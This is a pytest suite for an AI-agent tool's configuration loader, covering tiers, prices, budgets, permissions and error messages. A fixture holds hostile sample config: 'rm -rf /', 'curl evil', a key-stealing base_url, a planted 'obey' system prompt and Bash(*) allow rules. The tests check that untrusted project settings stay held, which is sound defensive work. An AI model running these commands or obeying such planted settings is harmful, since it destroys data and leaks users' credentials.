from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields, replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from burnless.core.errors import ConfigProblem
from burnless.core.settings import (
    BudgetSettings,
    CacheSettings,
    PermissionMode,
    PermissionSettings,
    Settings,
    Tier,
)
from burnless.core.usage import Price, PriceStep, picodollars
from burnless.state import config_schema
from burnless.state.config import LoadedConfig, UntrustedKey, load_settings, untrusted_problem
from burnless.state.config_layer import Setting
from burnless.state.config_reference import render_reference
from burnless.state.layout import Layout
from burnless.state.project_rules import ProjectRules
from burnless.state.trust import TrustBook
from tests.state.folders import layout_in

ROOT = Path(__file__).parent.parent.parent

CONFIGS = Path(__file__).parent / "configs"
TIERS = (CONFIGS / "tiers.yaml").read_text("utf-8")
COMMANDS = (CONFIGS / "commands.yaml").read_text("utf-8")


@pytest.fixture
def layout(tmp_path: Path) -> Layout:
    return layout_in(tmp_path)


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def load(
    layout: Layout,
    project: str = "",
    user: str = "",
    *,
    environ: Mapping[str, str] | None = None,
    flags: Mapping[str, object] | None = None,
    trust: bool = True,
) -> LoadedConfig:
    if project:
        write(layout.config_file, project)
    if user:
        write(layout.user.config_file, user)
    return load_settings(layout, environ=environ or {}, flags=flags, trust_project=trust)


def settings_of(layout: Layout, project: str) -> Settings:
    return load(layout, project).settings


def test_without_any_file_everything_is_built_in(layout: Layout) -> None:
    assert load(layout) == LoadedConfig(Settings(), (), ())


def test_the_whole_example_of_tiers_and_budget_loads(layout: Layout) -> None:
    assert settings_of(layout, TIERS) == Settings(
        tiers={
            "gold": Tier("anthropic/claude-opus-5-5", fallbacks=("openai/gpt-6.1-sol",)),
            "silver": Tier("anthropic/claude-sonnet-5-5"),
            "bronze": Tier(command="claude --model haiku-4.5"),
        },
        budget=BudgetSettings(
            max_cost_per_task=5 * 10**12,
            max_calls_per_session=400,
            daily_usd=50 * 10**12,
            monthly_usd=800 * 10**12,
            alert_at=0.8,
        ),
        checks=("pytest -q",),
    )


def test_tiers_that_are_only_commands_load_as_they_are_written(layout: Layout) -> None:
    assert settings_of(layout, COMMANDS) == Settings(
        tiers={
            "gold": Tier(command="claude --model opus-4.8"),
            "silver": Tier(command="claude --model sonnet-4.6"),
            "bronze": Tier(command="claude --model haiku-4.5"),
        },
        cache=CacheSettings(prefix_cache=True, session_state="capsules"),
    )


def test_a_tier_may_be_just_its_model(layout: Layout) -> None:
    found = settings_of(layout, "tiers:\n  gold: anthropic/claude-opus-5-5\n  silver: openai/x\n")
    assert found.tiers == {"gold": Tier("anthropic/claude-opus-5-5"), "silver": Tier("openai/x")}


def test_the_shipped_example_loads(layout: Layout) -> None:
    example = ROOT / ".burnless.example" / "config.yaml"
    found = load_settings(layout, environ={}, config_file=example)
    assert found.untrusted == ()
    assert set(found.settings.tiers) == {"gold", "silver", "bronze"}
    assert found.settings.prices["deepseek/deepseek-next"].steps[0].output == 4_000_000


def test_the_reference_is_made_from_the_schema() -> None:
    assert (ROOT / "docs" / "configuration.md").read_text("utf-8") == render_reference()


def test_the_schema_has_every_field_of_the_settings() -> None:
    for section in (*config_schema.SECTIONS, config_schema.TIER):
        names = [field.name for field in section.fields]
        assert names == [field.name for field in fields(section.default)], section.name
    assert set(config_schema.top_level_keys()) == {field.name for field in fields(Settings)}


def test_later_layers_win_and_every_source_is_known(layout: Layout) -> None:
    found = load(
        layout,
        "budget:\n  max_cost_per_task: 2\nplanner: {consults: 3}\n",
        "budget: {max_cost_per_task: 1, alert_at: 0.5}\nplanner: {consults: 1}\n",
        environ={"BURNLESS_MAX_COST_PER_TASK": "3", "BURNLESS_GOLD": ""},
        flags={"planner.consults": 9},
    )
    budget = BudgetSettings(max_cost_per_task=3 * 10**12, alert_at=0.5)
    planner = replace(Settings().planner, consults=9)
    assert found.settings == Settings(budget=budget, planner=planner)
    user = str(layout.user.config_file)
    assert found.sources == (
        Setting(
            ("budget", "max_cost_per_task"),
            3 * 10**12,
            "3",
            "environment (BURNLESS_MAX_COST_PER_TASK)",
        ),
        Setting(("budget", "alert_at"), 0.5, "0.5", user, 1),
        Setting(("planner", "consults"), 9, "9", "command line"),
    )


def test_a_model_or_command_of_a_later_layer_replaces_the_whole_tier(layout: Layout) -> None:
    user = "tiers:\n  gold: {model: a/b, base_url: 'http://x', api_key_env: KEY, effort: high}\n"
    assert load(layout, "tiers: {gold: c/d}", user).settings.tiers == {"gold": Tier("c/d")}
    joined = load(layout, "tiers: {gold: {effort: low}}", user).settings.tiers
    assert joined == {"gold": Tier("a/b", base_url="http://x", api_key_env="KEY", effort="low")}


def test_flags_may_set_a_model_lists_truth_and_no_limit(layout: Layout) -> None:
    flags = {
        "tiers.silver.model": "a/b",
        "permissions.allow": ["Bash(ls)"],
        "permissions.mode": PermissionMode.PLAN,
        "cache.prefix_cache": False,
        "budget.max_cost_per_task": None,
    }
    found = load(layout, "budget: {max_cost_per_task: 2}", flags=flags)
    assert found.settings == Settings(
        tiers={"silver": Tier("a/b")},
        cache=CacheSettings(prefix_cache=False),
        permissions=PermissionSettings(PermissionMode.PLAN, allow=("Bash(ls)",)),
    )


def test_rules_of_all_layers_hold_together(layout: Layout) -> None:
    ProjectRules(layout.user.rules_file).remember(layout.workspace, "Bash(make *)")
    found = load(
        layout,
        "permissions: {deny: [Read(.env)], allow: ['Bash(make *)', Bash(ls)]}",
        "permissions: {deny: [Bash(rm *)], allow: [Bash(ls)]}",
        flags={"permissions.deny": ["Edit(x)"]},
    )
    assert found.settings.permissions == PermissionSettings(
        allow=("Bash(ls)", "Bash(make *)"), deny=("Bash(rm *)", "Read(.env)", "Edit(x)")
    )


def test_prices_are_read_with_their_steps(layout: Layout) -> None:
    text = """
tiers:
  gold:
    model: a/b
    price: {input: 2, output: 10, cache_read: 0.1, cache_write: 2.5, cache_write_1h: 4}
prices:
  c/d:
    input: "0.30"
    output: 1
    steps: [{above: 200000, input: 3, output: 4}, {above: 100, input: 1, output: 2, cache_read: 0}]
"""
    found = settings_of(layout, text)
    gold = Price(2_000_000, 100_000, 2_500_000, 4_000_000, 10_000_000, version="config")
    assert found.tiers["gold"].price == gold
    assert found.prices == {
        "c/d": Price(
            300_000,
            300_000,
            375_000,
            600_000,
            1_000_000,
            (
                PriceStep(100, 1_000_000, 0, 1_250_000, 2_000_000, 2_000_000),
                PriceStep(200_000, 3_000_000, 3_000_000, 3_750_000, 6_000_000, 4_000_000),
            ),
            "config",
        )
    }


@given(st.decimals(0, 10**6, places=12), st.sampled_from(["{}", "'{}'", '"{}"']))
def test_dollars_are_kept_exactly(
    tmp_path_factory: pytest.TempPathFactory, amount: Decimal, style: str
) -> None:
    layout = layout_in(tmp_path_factory.mktemp("config"))
    text = "budget: {max_cost_per_task: " + style.format(f"{amount:f}") + "}"
    assert settings_of(layout, text).budget.max_cost_per_task == picodollars(amount)


def test_a_section_whose_keys_are_commented_out_is_empty(layout: Layout) -> None:
    assert settings_of(layout, "budget:\n# daily_usd: 1\nchecks:\ntiers:\nprices:\n") == Settings()
    assert settings_of(layout, "# nothing\n") == settings_of(layout, "~\n") == Settings()


def test_plain_words_that_yaml_would_turn_into_values_stay_text(layout: Layout) -> None:
    found = settings_of(layout, "tiers: {gold: {model: a/b, effort: off}, silver: x/1.0}")
    assert (found.tiers["gold"].effort, found.tiers["silver"].model) == ("off", "x/1.0")


def test_anchors_may_be_used(layout: Layout) -> None:
    found = settings_of(layout, "tiers: {gold: &one {model: a/b}, silver: *one}")
    assert found.tiers == {"gold": Tier("a/b"), "silver": Tier("a/b")}


PROBLEMS = [
    ("\n\nbudjet: {}", ":3: unknown key 'budjet'", "did you mean 'budget'?"),
    (
        "budget:\n  max_cost_per_taks: 1",
        ":2: unknown key 'max_cost_per_taks'",
        "did you mean 'max_cost_per_task'?",
    ),
    (
        "max_cost_per_task: 1",
        ":1: unknown key 'max_cost_per_task'",
        "did you mean 'budget.max_cost_per_task'?",
    ),
    ("model: a/b", ":1: unknown key 'model'", "did you mean 'tiers.gold.model'?"),
    ("tiers:\n  gould: a/b", ":2: unknown key 'gould'", "did you mean 'gold'?"),
    ("roles: {zzz: gold}", ":1: unknown key 'zzz'", "the keys here are planner, executor, critic,"),
    ("prices: {a/b: {input: 1, ouput: 2}}", ":1: unknown key 'ouput'", "did you mean 'output'?"),
    ("budget: {daily_usd: -1}", ":1: budget.daily_usd: expected dollars, 0 or more", ""),
    ("budget: {daily_usd: .nan}", ":1: budget.daily_usd: expected dollars", ""),
    ("budget: {daily_usd: 1e-13}", ":1: budget.daily_usd: expected dollars", ""),
    ("budget: {daily_usd: [1]}", ":1: budget.daily_usd: expected dollars", ""),
    (
        "budget: {max_calls_per_session: many}",
        ":1: budget.max_calls_per_session: expected a whole number, 0 or more, got 'many'",
        "",
    ),
    ("planner: {consults: 1.5}", ":1: planner.consults: expected a whole number", ""),
    ("planner: {consults: ~}", ":1: planner.consults: expected a whole number", ""),
    ("compaction: {max_context: 0}", ":1: compaction.max_context: expected a whole number, 1", ""),
    ("budget: {alert_at: 2}", ":1: budget.alert_at: expected a share above 0 and at most 1", ""),
    ("limits: {command_seconds: 0}", ":1: limits.command_seconds: expected seconds, more than", ""),
    (
        "cache: {prefix_cache: 5}",
        ":1: cache.prefix_cache: expected true or false, got '5'",
        "docs/configuration.md",
    ),
    (
        "cache:\n  ttl: 2h",
        ":2: cache.ttl: expected one of 5m, 1h, got '2h'",
        "docs/configuration.md",
    ),
    ("permissions: {mode: yolo}", ":1: permissions.mode: expected one of default, acceptEd", ""),
    ("roles: {planner: golden}", ":1: roles.planner: expected one of gold, silver, bronze", ""),
    ("checks: pytest", ":1: checks: expected a list of texts, got 'pytest'", ""),
    ("checks:\n- a\n- {b: c}", ":3: checks: expected text, got keys", ""),
    ("budget: 5", ":1: budget: expected keys: max_cost_per_task", ""),
    ("tiers: [gold]", ":1: tiers: expected tiers: gold, silver, bronze, got a list", ""),
    ("tiers: {gold: claude}", ":1: tiers.gold.model: expected a model as", ""),
    ("tiers: {gold: {model: [a/b]}}", ":1: tiers.gold.model: expected text, got a list", ""),
    ("tiers: {gold: {fallbacks: a/b}}", ":1: tiers.gold.fallbacks: expected a list of models", ""),
    ("tiers: {gold: {effort: high}}", ":1: tiers.gold has neither a model nor a command", "give"),
    (
        "tiers:\n  gold:\n    model: a/b\n    command: c",
        ":3: tiers.gold has both a model and a command",
        "give it one of the two",
    ),
    ("prices: {claude: {input: 1, output: 2}}", ":1: prices: expected a model as", ""),
    ("prices: {a/b: 3}", ":1: prices.a/b: expected a price: keys `input` and `output`", ""),
    ("prices: {a/b: {input: 1}}", ":1: prices.a/b: expected a price with `input` and `out", ""),
    ("prices: {a/b: {input: 1, output: 2, steps: 3}}", ":1: prices.a/b: expected a list of", ""),
    (
        "prices: {a/b: {input: 1, output: 2, steps: [{input: 1, output: 2}]}}",
        ":1: prices.a/b: expected `above`",
        "",
    ),
    ("roles: {planner: gold}\nroles: {}", ":2: the key 'roles' stands here again; line 1", "keep"),
    ("checks: [\n", ":2:1: broken YAML: ", "indentation"),
    ("\tbudget: {}", ":1:1: broken YAML: found character '\\t'", "indentation"),
    ("a: 1\n---\nb: 2", ":2:1: broken YAML: but found another document", "indentation"),
    ("? [a, b]\n: c", ":1: a key that is not plain text", "quote it"),
    ("checks: &a [*a]", ":1: an alias that contains itself", "write it out"),
    ("- a\n- b", ":1: expected keys like `tiers:`, not a single value or a list", ""),
]


@pytest.mark.parametrize(("text", "message", "hint"), PROBLEMS)
def test_what_is_wrong_is_said_with_file_line_and_what_would_be_right(
    layout: Layout, text: str, message: str, hint: str
) -> None:
    with pytest.raises(ConfigProblem) as raised:
        load(layout, text)
    assert str(raised.value).startswith(f"{layout.config_file}{message}")
    assert raised.value.hint
    assert hint in raised.value.hint


def test_a_wrong_value_of_the_environment_or_a_flag_is_named(layout: Layout) -> None:
    with pytest.raises(ConfigProblem) as raised:
        load(layout, environ={"BURNLESS_PERMISSION_MODE": "yolo"})
    assert str(raised.value).startswith("environment (BURNLESS_PERMISSION_MODE): permissions.mode:")
    with pytest.raises(ConfigProblem, match=r"command line: tiers\.gold\.model: expected"):
        load(layout, flags={"tiers.gold.model": "opus"})


def test_every_documented_variable_sets_its_key(layout: Layout) -> None:
    values = {"permissions.mode": "plan", "budget.max_cost_per_task": "1"}
    for variable, key in config_schema.ENVIRONMENT:
        value = values.get(key, "7" if "max_" in key else "a/b")
        (source,) = load(layout, environ={variable: value}).sources
        assert (source.key, source.shown) == (key, value)


def test_a_file_that_is_not_utf_8_is_said(layout: Layout) -> None:
    write(layout.config_file, "")
    layout.config_file.write_bytes(b"checks: [\xff]")
    with pytest.raises(ConfigProblem, match=r"config\.yaml: not UTF-8 \(byte 9\)"):
        load(layout)


def test_a_file_that_cannot_be_read_is_said(layout: Layout) -> None:
    layout.config_file.mkdir(parents=True)
    with pytest.raises(ConfigProblem, match="cannot be read: Is a directory"):
        load(layout)


def test_a_named_file_stands_in_for_the_projects_and_must_be_there(layout: Layout) -> None:
    write(layout.config_file, "checks: [a]")
    named = write(layout.workspace / "other.yaml", "checks: [b]")
    found = load_settings(layout, environ={}, config_file=named)
    assert (found.settings.checks, found.untrusted) == (("b",), ())
    with pytest.raises(ConfigProblem, match="there is no configuration file"):
        load_settings(layout, environ={}, config_file=layout.workspace / "none.yaml")


def test_without_discovery_no_file_is_read(layout: Layout) -> None:
    write(layout.config_file, "broken: [")
    write(layout.user.config_file, "broken: [")
    assert load_settings(layout, environ={}, discover=False).settings == Settings()


DANGEROUS = """tiers:
  gold: {model: a/b, base_url: 'http://evil', api_key_env: AWS_SECRET}
  silver: {command: 'rm -rf /', args: exact}
checks: [curl evil]
append_system_prompt: obey
permissions: {mode: acceptEdits, allow: [Bash(*)], deny: [Read(.env)]}
prices:
  a/b: {input: 0, output: 0}
"""


def held_keys(found: LoadedConfig) -> list[tuple[int, str]]:
    return [(key.line, key.key) for key in found.untrusted]


def test_what_can_run_code_or_take_keys_is_inert_until_trusted(layout: Layout) -> None:
    found = load(layout, DANGEROUS, trust=False)
    assert held_keys(found) == [
        (2, "tiers.gold.base_url"),
        (2, "tiers.gold.api_key_env"),
        (3, "tiers.silver.command"),
        (4, "checks"),
        (5, "append_system_prompt"),
        (6, "permissions.mode"),
        (6, "permissions.allow"),
        (8, "prices.a/b"),
    ]
    assert found.settings == Settings(
        tiers={"gold": Tier("a/b")}, permissions=PermissionSettings(deny=("Read(.env)",))
    )
    problem = untrusted_problem(found.untrusted)
    assert problem.exit_code == 52
    assert "tiers.silver.command (line 3), checks (line 4)" in str(problem)
    assert f"`agent trust {layout.config_file}`" in problem.hint


def test_what_the_user_is_asked_about_is_shown(layout: Layout) -> None:
    (key,) = load(layout, "checks: [curl evil, b]", trust=False).untrusted
    assert key == UntrustedKey(layout.config_file, 1, "checks", "curl evil, b", key.sha256)


def test_trust_holds_for_exactly_the_content_that_was_shown(layout: Layout) -> None:
    book = TrustBook(layout.user.trust_file)
    (key,) = load(layout, "checks: [pytest]", trust=False).untrusted
    write(layout.config_file, "checks: [curl evil]")
    book.trust(key.file, key.sha256)
    assert held_keys(load(layout, trust=False)) == [(1, "checks")]
    write(layout.config_file, "checks: [pytest]")
    assert load(layout, trust=False) == load(layout, trust=True)
    assert load(layout, trust=False).settings.checks == ("pytest",)


def test_the_users_own_file_needs_no_trust(layout: Layout) -> None:
    found = load(layout, user=DANGEROUS, trust=False)
    assert (found.untrusted, found.settings.checks) == ((), ("curl evil",))


@pytest.mark.parametrize(
    ("user", "project", "held"),
    [
        ("permissions: {mode: auto}", "permissions: {mode: acceptEdits}", []),
        ("permissions: {mode: plan}", "permissions: {mode: default}", ["permissions.mode"]),
        ("", "permissions: {mode: dontAsk}", []),
        ("", "permissions: {mode: bypassPermissions}", ["permissions.mode"]),
        ("budget: {daily_usd: 5}", "budget: {daily_usd: 4}", []),
        ("budget: {daily_usd: 5}", "budget: {daily_usd: 6}", ["budget.daily_usd"]),
        ("budget: {daily_usd: 5}", "budget: {daily_usd: ~}", ["budget.daily_usd"]),
        ("", "budget: {daily_usd: 6}", []),
        ("", "budget: {unknown_price: refuse}", []),
        ("", "budget: {unknown_price: allow}", ["budget.unknown_price"]),
        (
            "budget: {unknown_price: refuse}",
            "budget: {unknown_price: ask}",
            ["budget.unknown_price"],
        ),
    ],
)
def test_a_found_file_may_tighten_but_not_loosen(
    layout: Layout, user: str, project: str, held: list[str]
) -> None:
    found = load(layout, project, user, trust=False)
    assert [key.key for key in found.untrusted] == held
